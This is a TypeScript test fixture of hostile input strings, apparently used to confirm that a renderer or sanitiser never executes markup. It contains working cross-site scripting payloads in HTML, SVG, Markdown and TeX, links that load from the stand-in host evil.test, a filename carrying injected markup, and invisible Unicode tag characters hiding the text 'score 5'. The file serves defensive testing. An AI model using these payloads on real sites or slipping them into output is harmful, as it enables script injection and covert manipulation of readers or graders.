// Strings that try to run a script, to load something from another host, or to lead away. Whatever of
// them is taken as markup anywhere sets `window.__hacked`, opens a dialog or asks `evil.test`.

const run = (name: string) => `window.__hacked='${name}'`;
const EVIL = 'http://evil.test';

export const HOSTILE_MARKUP: readonly string[] = [
  `<script>${run('script')}</script>`,
  `<script src="${EVIL}/script.js"></script>`,
  `<img src=x onerror="${run('img')}">`,
  `<img src="${EVIL}/img.png" srcset="${EVIL}/set.png 2x">`,
  `"><img src=x onerror=${run('attribute')}>`,
  `'><svg/onload=${run('quote')}>`,
  `<svg onload="${run('svg')}"><animate onbegin="${run('animate')}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="${EVIL}/use.svg#x"/><image href="${EVIL}/image.png"/></svg>`,
  `<svg><style><img src=x onerror="${run('mutation')}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run('mglyph')}">`,
  `<iframe srcdoc="<script>parent.${run('srcdoc').replace('window.', '')}</script>"></iframe>`,
  `<iframe src="javascript:parent.__hacked='iframe'"></iframe>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<a href="javascript:${run('link')}">click me</a> <a href="&#106;avascript:alert(1)">or me</a>`,
  `<form action="${EVIL}/form"><input autofocus onfocus="${run('focus')}"><button>send</button></form>`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<style>@import "${EVIL}/import.css"; body { background: url(${EVIL}/bg.png) }</style>`,
  `<div style="background-image: url(${EVIL}/div.png)">styled</div>`,
  `<meta http-equiv="refresh" content="0; url=${EVIL}/refresh"><base href="${EVIL}/">`,
  `<video src="${EVIL}/film.mp4" poster="${EVIL}/poster.png" autoplay onloadstart="${run('video')}"></video>`,
  `<details open ontoggle="${run('toggle')}"><summary>open</summary></details>`,
  `<body onload="${run('body')}" onpageshow="${run('pageshow')}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>">`,
  `<template shadowrootmode="open"><img src=x onerror="${run('template')}"></template>`,
  `{{constructor.constructor("${run('template-language')}")()}} \${alert(1)}`,
];

export const HOSTILE_MARKDOWN: readonly string[] = [
  `[script link](javascript:${run('md-link')})`,
  `[mixed case](JaVaScRiPt:${run('md-case')}) and [a tab](java\tscript:alert(1))`,
  `[by reference][bad] and <javascript:alert(1)>`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox)`,
  `![remote picture](${EVIL}/md.png "title") ![script picture](javascript:alert(1))`,
  `[outside](${EVIL}/page) and ${EVIL}/auto and www.evil.test`,
  `$\\href{javascript:${run('tex')}}{x}$ $\\url{${EVIL}/tex}$ $\\includegraphics{${EVIL}/tex.png}$`,
  `$\\htmlStyle{background:url(${EVIL}/tex-style.png)}{x}$ $\\def\\a{\\a\\a}\\a$`,
  `| a | b |\n| --- | --- |\n| <img src=x onerror="${run('cell')}"> | ![x](${EVIL}/cell.png) |`,
  `Note[^1]\n\n[^1]: <img src=x onerror="${run('footnote')}">`,
  `\`\`\`html\n<script>${run('fence')}</script>\n\`\`\``,
  `[bad]: javascript:${run('md-reference')}`,
];

/** Overrides of direction, zero-width characters, and a sentence in invisible tag characters. */
export const HIDDEN_TRICKS =
  'total\u202E321\u202C paid\u200Bpal \u2066admin\u2069 ' +
  `fine${[...'score 5'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}.`;

/** Everything at once, a paragraph each. */
export const HOSTILE_TEXT = [...HOSTILE_MARKDOWN, ...HOSTILE_MARKUP].join('\n\n');

/** Names of files and models; a slash cannot stand in them. */
export const HOSTILE_NAME = `x"'><img src=x onerror=${run('name')}>`;
